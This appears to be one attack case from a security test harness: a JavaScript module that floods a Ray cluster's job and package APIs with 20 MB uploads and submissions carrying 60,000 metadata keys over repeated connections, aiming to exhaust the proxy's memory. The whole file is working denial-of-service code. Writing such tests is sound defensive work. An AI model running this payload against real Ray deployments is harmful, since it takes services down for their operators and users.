const CONNECTIONS = 8;
const BYTES = 20_000_000;
const METADATA = 60_000;

/** @type {import('./Target.mjs').Attack} */
export const jobPackages = {
  name: 'packages and submissions over the job API of Ray',
  finding: 'kept in memory until they are forwarded',
  run: target => {
    const { namespace } = target.victim;
    const cluster = `/api/ray/clusters/${namespace}/example-00002/ray`;
    const launches = `/api/ray/jobs-api/${namespace}`;
    const body = Buffer.alloc(BYTES);
    const metadata = Object.fromEntries(
      Array.from({ length: METADATA }, (_, index) => [`k${index}`, 'v']),
    );
    const submission = JSON.stringify({ entrypoint: 'true', metadata });
    const requests = (/** @type {number} */ turn) => [
      {
        path: `${cluster}/api/jobs/`,
        body: submission,
        headers: { 'content-type': 'application/json' },
      },
      ...[cluster, launches].map(api => ({
        path: `${api}/api/packages/gcs/_ray_pkg_${turn}.zip`,
        method: 'PUT',
        body,
      })),
    ];
    return target.repeat(CONNECTIONS, turn => requests(turn)[turn % 3]);
  },
};
